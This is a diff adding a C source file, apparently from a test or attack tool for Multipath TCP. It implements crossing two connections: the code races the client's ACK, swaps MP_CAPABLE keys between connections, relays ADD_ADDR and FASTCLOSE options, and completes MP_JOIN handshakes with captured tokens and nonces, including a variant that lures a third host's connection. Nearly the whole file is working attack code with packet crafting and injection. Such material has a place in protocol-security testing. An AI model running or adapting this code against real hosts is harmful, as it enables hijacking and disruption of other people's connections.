@@ -1,0 +1,349 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Two connections of one host, made each other's peers. The attacker opens one of their own, and
+ * is not in the middle of the client's: they see the server's SYN/ACK to it pass by, and have
+ * their own ACK there before the client's. In it they name the server's key of the one
+ * connection as the client's of the other, and the other way round. What the server sends on
+ * one of them, to begin a join say, is then what it expects on the other.
+ */
+#include <stdio.h>
+#include <string.h>
+
+#include "attacker.h"
+
+#define CAPABLE_SYN_LEN 4
+
+static uint8_t *put_timestamps(uint8_t *at, const struct segment *synack)
+{
+	const uint8_t *stamps = find_option(synack, TCPOPT_TIMESTAMP, 0);
+
+	if (!stamps || stamps[1] != TCPOLEN_TIMESTAMP)
+		return at;
+	*at++ = TCPOPT_NOP;
+	*at++ = TCPOPT_NOP;
+	*at++ = TCPOPT_TIMESTAMP;
+	*at++ = TCPOLEN_TIMESTAMP;
+	return put32(put32(at, get32(stamps + 6)), get32(stamps + 2));
+}
+
+/* As from who opens the connection */
+static void end_first(int path, const uint8_t *from_mac,
+		      const struct segment *synack, uint64_t sender_key,
+		      uint64_t receiver_key)
+{
+	struct plan plan = {
+		.flags = TH_ACK,
+		.from_mac = from_mac,
+		.to_mac = links[path][SERVER].peer_mac,
+		.from = synack->to,
+		.to = synack->from,
+		.seq = synack->ack,
+		.ack = synack->seq + 1,
+	};
+	struct frame frame;
+	uint8_t *at;
+
+	at = put_capable(put_timestamps(plan.options, synack), CAPABLE_ACK_LEN);
+	at = put64(put64(at, sender_key), receiver_key);
+	plan.options_len = (unsigned int)(at - plan.options);
+	make_segment(&frame, &plan);
+	send_frame(&links[path][SERVER], &frame);
+}
+
+/* The next SYN/ACK of a first handshake, to the attacker or to the client */
+static bool next_synack(bool own, const struct endpoint *self, int64_t until,
+			struct frame *frame, struct segment *segment,
+			uint64_t *key)
+{
+	const uint8_t *capable;
+
+	while (pump(until, false, frame)) {
+		if (!parse_segment(frame, segment) || !segment->tcp->syn ||
+		    !segment->tcp->ack ||
+		    same_endpoint(&segment->to, self) != own)
+			continue;
+		capable = find_mptcp(segment, MP_CAPABLE);
+		if (!capable || capable[1] != CAPABLE_SYNACK_LEN)
+			continue;
+		*key = get64(capable + 4);
+		return true;
+	}
+	return false;
+}
+
+/* What the server sends on the attacker's connection to join there */
+static uint8_t *next_join(uint8_t len, const struct endpoint *self,
+			  int64_t until, struct frame *frame,
+			  struct segment *segment, bool *refused)
+{
+	uint8_t *join;
+
+	while (pump(until, false, frame)) {
+		if (!parse_segment(frame, segment) ||
+		    !same_endpoint(&segment->to, self))
+			continue;
+		join = find_mptcp(segment, MP_JOIN);
+		if (join && join[1] == len)
+			return join;
+		if (segment->tcp->rst && len == JOIN_ACK_LEN) {
+			*refused = true;
+			return NULL;
+		}
+	}
+	return NULL;
+}
+
+static void answer_join(int path, const struct segment *syn, uint64_t hmac,
+			uint32_t nonce)
+{
+	struct plan plan = {
+		.flags = TH_SYN | TH_ACK,
+		.from_mac = links[path][SERVER].mac,
+		.to_mac = links[path][SERVER].peer_mac,
+		.from = syn->to,
+		.to = syn->from,
+		.seq = random32(),
+		.ack = syn->seq + 1,
+		.options = { MPTCP_KIND, JOIN_SYNACK_LEN, MP_JOIN << 4, 67 },
+		.options_len = JOIN_SYNACK_LEN,
+	};
+	struct frame frame;
+
+	put32(put64(plan.options + 4, hmac), nonce);
+	make_segment(&frame, &plan);
+	send_frame(&links[path][SERVER], &frame);
+}
+
+/* An option that the server sends on the attacker's connection, as it is, from the client */
+static bool pass_option(uint8_t subtype, int path, const struct endpoint *self,
+			int64_t until)
+{
+	const struct connection *x;
+	struct plan plan = { .flags = TH_ACK };
+	struct segment segment;
+	struct frame frame;
+	const uint8_t *option;
+	uint8_t *at = plan.options;
+
+	do {
+		if (!pump(until, false, &frame))
+			return false;
+		option = parse_segment(&frame, &segment) &&
+					 same_endpoint(&segment.to, self) ?
+				 find_mptcp(&segment, subtype) :
+				 NULL;
+	} while (!option);
+	x = last_connection();
+	if (!x)
+		return false;
+	if (x->senders[CLIENT].timestamps) {
+		*at++ = TCPOPT_NOP;
+		*at++ = TCPOPT_NOP;
+		*at++ = TCPOPT_TIMESTAMP;
+		*at++ = TCPOLEN_TIMESTAMP;
+		at = put32(put32(at, x->senders[CLIENT].tsval),
+			   x->senders[CLIENT].tsecr);
+	}
+	memcpy(at, option, option[1]);
+	plan.options_len = (unsigned int)(at - plan.options) + option[1];
+	plan.from_mac = links[path][CLIENT].peer_mac;
+	plan.to_mac = links[path][SERVER].peer_mac;
+	plan.from = x->ends[CLIENT];
+	plan.to = x->ends[SERVER];
+	plan.seq = x->senders[CLIENT].next;
+	plan.ack = x->senders[CLIENT].ack;
+	make_segment(&frame, &plan);
+	send_frame(&links[path][SERVER], &frame);
+	return true;
+}
+
+/* By which the server has sent this: that of an endpoint is not by its address */
+static int path_of(const struct segment *segment)
+{
+	return memcmp(segment->eth->ether_shost, links[1][SERVER].peer_mac,
+		      ETH_ALEN) ?
+		       0 :
+		       1;
+}
+
+/*
+ * from=ADDR to=ADDR to_port=N: the attacker's connection. Then the client is to connect.
+ * what=add-addr, what=fastclose, or a join
+ */
+bool cmd_cross(void)
+{
+	struct connection service = { 0 }, x = { 0 };
+	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
+	int64_t until = now_ms() + 20 * patience_ms;
+	uint64_t key_x, key_y;
+	struct frame frame_x, frame_y, frame;
+	struct segment synack_x, synack_y, segment;
+	struct attempt own, attempt;
+	enum answer answer;
+	bool refused = false;
+	uint8_t *join;
+
+	service.ends[SERVER].port = htons((uint16_t)arg_number("to_port", "0"));
+	start_attempt(&own, &service, &service, 0);
+	put_capable(syn.options, CAPABLE_SYN_LEN);
+	send_attempt(&own, &syn);
+	watch = true;
+	if (!next_synack(true, &own.from, until, &frame_y, &synack_y, &key_y) ||
+	    !next_synack(false, &own.from, until, &frame_x, &synack_x, &key_x))
+		return false;
+	end_first(own.path, links[own.path][CLIENT].peer_mac, &synack_x, key_y,
+		  key_x);
+	end_first(own.path, links[own.path][SERVER].mac, &synack_y, key_x,
+		  key_y);
+	printf(" crossed=1");
+	watch = false;
+
+	if (arg_is("what", "add-addr", "join")) {
+		printf(" announced=%d",
+		       pass_option(MP_ADD_ADDR, own.path, &own.from, until));
+		return true;
+	}
+	if (arg_is("what", "fastclose", "join")) {
+		printf(" closed=%d",
+		       pass_option(MP_FASTCLOSE, own.path, &own.from, until));
+		return true;
+	}
+	join = next_join(JOIN_SYN_LEN, &own.from, until, &frame, &segment,
+			 &refused);
+	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
+	if (!join)
+		return true;
+	x.ends[SERVER] = synack_x.from;
+	x.keys[CLIENT] = key_y;
+	x.keys[SERVER] = key_x;
+	start_attempt(&attempt, &x, &x, 1);
+	attempt.token = get32(join + 4);
+	attempt.nonces[CLIENT] = get32(join + 8);
+	send_syn(&attempt);
+	answer = take_synack(&attempt);
+	printf(" syn=%s", answers[answer]);
+	if (answer != ANSWERED)
+		return true;
+	answer_join(path_of(&segment), &segment, attempt.synack,
+		    attempt.nonces[SERVER]);
+	join = next_join(JOIN_ACK_LEN, &own.from, now_ms() + patience_ms,
+			 &frame, &segment, &refused);
+	printf(" server=%s", answers[join    ? ANSWERED :
+				     refused ? REFUSED :
+					       SILENT]);
+	if (join)
+		end_join(&attempt, &x, join + 4);
+	return true;
+}
+
+/* The next segment of the other host's, with an option of this subtype */
+static uint8_t *hear(uint8_t subtype, int64_t until, struct frame *frame,
+		     struct segment *segment)
+{
+	const uint8_t *mac = links[OTHER_HOST][CLIENT].peer_mac;
+	uint8_t *option;
+
+	while (pump(until, false, frame)) {
+		if (!parse_segment(frame, segment) ||
+		    memcmp(segment->eth->ether_shost, mac, ETH_ALEN))
+			continue;
+		option = find_mptcp(segment, subtype);
+		if (option)
+			return option;
+	}
+	return NULL;
+}
+
+static void answer_other(const struct segment *heard, struct plan *plan)
+{
+	const struct link *link = &links[OTHER_HOST][CLIENT];
+	struct frame frame;
+
+	plan->from = heard->to;
+	plan->to = heard->from;
+	plan->ack = heard->seq + heard->payload_len + heard->tcp->syn;
+	plan->from_mac = link->mac;
+	plan->to_mac = link->peer_mac;
+	make_segment(&frame, plan);
+	send_frame(link, &frame);
+}
+
+/*
+ * The same with a connection that another host opens, which gets the attacker. It has waited
+ * for its SYN/ACK, and gets the key of the server of the client's connection; and that one gets
+ * its key for the client's. So the one is what the other expects, from either side: its join
+ * is one to the client's connection, by way of from=ADDR.
+ */
+bool cmd_cross_lured(void)
+{
+	struct plan synack = { .flags = TH_SYN | TH_ACK, .seq = random32() };
+	struct plan ack = { .flags = TH_ACK, .seq = synack.seq + 1 };
+	int64_t until = now_ms() + 20 * patience_ms;
+	struct endpoint nobody = { 0 };
+	struct connection x = { 0 };
+	struct frame frame_other, frame_x, frame;
+	struct segment other, synack_x, segment;
+	struct attempt attempt;
+	enum answer answer;
+	uint8_t *capable, *join, *at;
+
+	if (!hear(MP_CAPABLE, until, &frame_other, &other))
+		return false;
+	printf(" waits=1");
+	watch = true;
+	if (!next_synack(false, &nobody, until, &frame_x, &synack_x,
+			 &x.keys[SERVER]))
+		return false;
+	printf(" seen=1");
+	x.ends[SERVER] = synack_x.from;
+	at = put_capable(synack.options, CAPABLE_SYNACK_LEN);
+	at = put64(at, x.keys[SERVER]);
+	synack.options_len = (unsigned int)(at - synack.options);
+	answer_other(&other, &synack);
+	do
+		capable = hear(MP_CAPABLE, until, &frame, &segment);
+	while (capable && capable[1] < CAPABLE_ACK_LEN);
+	if (!capable)
+		return false;
+	printf(" named=1");
+	x.keys[CLIENT] = get64(capable + 4);
+	end_first(0, links[0][CLIENT].peer_mac, &synack_x, x.keys[CLIENT],
+		  x.keys[SERVER]);
+	watch = false;
+
+	/* As in attack_lure.c */
+	while (capable && !segment.payload_len)
+		capable = hear(MP_CAPABLE, until, &frame, &segment);
+	if (!capable)
+		return false;
+	at = ack.options;
+	*at++ = MPTCP_KIND;
+	*at++ = 12;
+	*at++ = MP_DSS << 4;
+	*at++ = 0x3; /* data ack of 8 bytes */
+	at = put64(at, key_first_dsn(x.keys[CLIENT]) + segment.payload_len);
+	ack.options_len = (unsigned int)(at - ack.options);
+	answer_other(&segment, &ack);
+
+	join = hear(MP_JOIN, until, &frame, &segment);
+	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
+	if (!join)
+		return true;
+	start_attempt(&attempt, &x, &x, 1);
+	attempt.token = get32(join + 4);
+	attempt.nonces[CLIENT] = get32(join + 8);
+	send_syn(&attempt);
+	answer = take_synack(&attempt);
+	printf(" syn=%s", answers[answer]);
+	if (answer != ANSWERED)
+		return true;
+	send_synack(OTHER_HOST, &segment, attempt.synack,
+		    attempt.nonces[SERVER]);
+	do
+		join = hear(MP_JOIN, now_ms() + patience_ms, &frame, &segment);
+	while (join && join[1] != JOIN_ACK_LEN);
+	printf(" other=%s", answers[join ? ANSWERED : SILENT]);
+	if (join)
+		end_join(&attempt, &x, join + 4);
+	return true;
+}
